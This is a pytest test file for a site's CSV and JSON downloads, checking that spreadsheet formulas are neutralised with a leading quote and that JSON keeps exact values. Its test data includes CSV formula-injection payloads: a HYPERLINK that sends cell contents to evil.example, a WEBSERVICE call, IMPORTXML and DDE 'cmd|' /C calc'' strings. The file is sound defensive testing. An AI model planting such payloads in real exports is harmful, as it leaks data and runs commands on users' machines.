"""CSV and JSON downloads: no cell a spreadsheet would run as a formula, JSON always valid.

The unit tests check `csv_cell`, `as_csv` and `as_json`; the corpus cases build the tiny
fixture site with one careless or hostile value each and read its downloads back.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from fixture_site import FILES, Case, assert_neutralised, assert_refused
from kit_downloads import as_csv, as_json, csv_cell
from test_kit_calendar import with_fields

PROJECT, INVESTMENT = "projects/maji.md", "investments/shamba.md"
DOWNLOADS = {PROJECT: "projects/projects", INVESTMENT: "investments/investments"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


# Unit tests of the pure functions.

@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "  =1+1", "=1", "+", "-", "@", "-cmd", "+255 (0) 754",
    "+255-754", "--5", "-5e3", "=+255 754 000 120",
])
def test_a_text_a_spreadsheet_would_run_gets_a_single_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", [
    "+255 754 000 120", "+255 23 260 0120", "-6.9012", "+5", "-1 000", "Mradi wa maji", "a=b", "info@example.go.tz",
    "", "2026-12-09", "'=already quoted", "Shamba; kilimo, maji", "\u200e+255 754", "ملیمانی",
])
def test_other_texts_are_written_as_they_are(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value, written", [(-5, -5), (-6.9012, -6.9012), (0, 0), (1250000000, 1250000000),
                                            (None, ""), (True, "True")])
def test_numbers_stay_numbers_and_none_is_empty(value, written):
    assert csv_cell(value) == written and type(csv_cell(value)) is type(written)


def test_csv_quotes_what_it_must_and_reads_back_as_written():
    rows = [{"title": '=HYPERLINK("x")', "note": 'a, "b"\r\nc', "phone": "+255 754 000 120", "lat": -6.9}]
    text = as_csv(rows)
    assert text.startswith("title,note,phone,lat\r\n") and text.endswith("\r\n")
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row == {"title": "'=HYPERLINK(\"x\")", "note": 'a, "b"\r\nc', "phone": "+255 754 000 120", "lat": "-6.9"}


def test_json_keeps_the_exact_values():
    rows = [{"title": '=HYPERLINK("x")\n\u2028</script>', "budget": -5, "lat": -6.9, "none": None}]
    assert json.loads(as_json(rows)) == rows


@pytest.mark.parametrize("value", [float("nan"), float("inf"), float("-inf")])
def test_json_refuses_what_is_not_a_number(value):
    with pytest.raises(ValueError):
        as_json([{"budget": value}])


# Corpus cases: the tiny site with one careless or hostile value each.

def cells(site: Path, source: str) -> dict[str, str]:
    """The one data row of a download, as a spreadsheet reads its cells."""
    with open(site / f"{DOWNLOADS[source]}.csv", encoding="utf-8", newline="") as file:
        [row] = list(csv.DictReader(file))
    return row


def record(site: Path, source: str) -> dict:
    """The one record of the JSON download (which must be valid JSON)."""
    [row] = json.loads((site / f"{DOWNLOADS[source]}.json").read_text(encoding="utf-8"))
    return row


def case(name: str, source: str, fields: dict[str, str], column: str, cell, value) -> Case:
    """A case whose CSV `column` must read `cell` and whose JSON must hold `value`."""
    return Case(name, with_fields(source, fields), (column, cell, value))


def funders(*lines: str) -> dict[str, str]:
    """The fixture's project with these funder lines instead of '- Serikali'."""
    return {PROJECT: FILES[PROJECT].replace("  - Serikali\n", "".join(f"  - {line}\n" for line in lines))}


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CASES = [
    case("title =HYPERLINK", PROJECT, {"title": "'" + HYPERLINK.replace("'", "''") + "'"}, "title",
         "'" + HYPERLINK, HYPERLINK),
    case("title +cmd", PROJECT, {"title": "\"+cmd|' /C calc'!A0\""}, "title", "'+cmd|' /C calc'!A0",
         "+cmd|' /C calc'!A0"),
    case("title -2+3+cmd", PROJECT, {"title": "\"-2+3+cmd|' /C calc'!A0\""}, "title", "'-2+3+cmd|' /C calc'!A0",
         "-2+3+cmd|' /C calc'!A0"),
    case("title @SUM", PROJECT, {"title": '"@SUM(1+9)*cmd|\' /C calc\'!A0"'}, "title",
         "'@SUM(1+9)*cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"),
    case("title with a tab first", PROJECT, {"title": '"\\t=1+1"'}, "title", "'\t=1+1", "\t=1+1"),
    case("ward =WEBSERVICE", PROJECT, {"  ward": '"=WEBSERVICE(\\"http://evil.example\\")"'}, "ward",
         "'=WEBSERVICE(\"http://evil.example\")", "=WEBSERVICE(\"http://evil.example\")"),
    Case("second funder =IMPORTXML", funders("Serikali", '"=IMPORTXML(A1)"'),
         ("funders", "Serikali; =IMPORTXML(A1)", "Serikali; =IMPORTXML(A1)")),
    Case("first funder -cmd", funders("\"-cmd|' /C calc'!A0\"", "Serikali"),
         ("funders", "'-cmd|' /C calc'!A0; Serikali", "-cmd|' /C calc'!A0; Serikali")),
    case("negative budget", PROJECT, {"budget": "-5"}, "budget", "-5", -5),
    case("investment contact @", INVESTMENT, {"  name": '"@evil"'}, "contact", "'@evil", "@evil"),
    case("investment phone =", INVESTMENT, {"  phone": '"=1+2"'}, "phone", "'=1+2", "=1+2"),
    case("investment phone as written", INVESTMENT, {"  phone": '"+255 23 260 0120"'}, "phone",
         "+255 23 260 0120", "+255 23 260 0120"),
    case("investment title with a line break", INVESTMENT, {"title": '"Shamba\\r\\n=1+1"'}, "title",
         "Shamba\r\n=1+1", "Shamba\r\n=1+1"),
    case("investment title with leading spaces", INVESTMENT, {"title": '"  =1+1"'}, "title", "'  =1+1", "  =1+1"),
]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_no_cell_runs_as_a_formula_and_json_keeps_the_value(tmp_path: Path, case: Case):
    site = assert_neutralised(tmp_path, case)
    source = next(iter(case.files))
    column, cell, value = case.expected
    row = cells(site, source)
    assert row[column] == cell, row
    assert all(not text.lstrip(" ").startswith(FORMULA_START) or text.lstrip("+- 0123456789.") == ""
               for text in row.values()), row
    assert record(site, source)[column] == value


def test_the_fixture_downloads_are_untouched(tmp_path: Path):
    """Cells that are not dangerous are written as before: the phone number, the figures, the text."""
    site = assert_neutralised(tmp_path, Case("nothing changed", {}, ()))
    assert (site / "projects/projects.csv").read_bytes() == (
        b"key,title,url,sector,state,ward,village,funders,currency,budget,spent,progress,start,end\r\n"
        b"maji,Mradi wa maji,https://www.majaribio.go.tz/projects/maji/,water,ongoing,Lumbe,,Serikali,TZS,"
        b"1000000,500000,50,,\r\n")
    assert cells(site, INVESTMENT)["phone"] == "+255 754 000 120"


REFUSED = [
    Case("budget .nan", with_fields(PROJECT, {"budget": ".nan"}),
         ("content/projects/maji.md:9", "budget", "'nan' is not right; expected a number such as 12")),
    Case("spent .inf", with_fields(PROJECT, {"spent": ".inf"}),
         ("content/projects/maji.md:10", "spent", "'inf' is not right; expected a number such as 12")),
    Case("size -.inf", with_fields(INVESTMENT, {"  amount": "-.inf"}),
         ("content/investments/shamba.md:8", "size.amount", "'-inf' is not right; expected a number")),
]


@pytest.mark.parametrize("case", REFUSED, ids=lambda case: case.name)
def test_a_figure_that_is_not_a_number_stops_the_build(tmp_path: Path, case: Case):
    assert_refused(tmp_path, case)
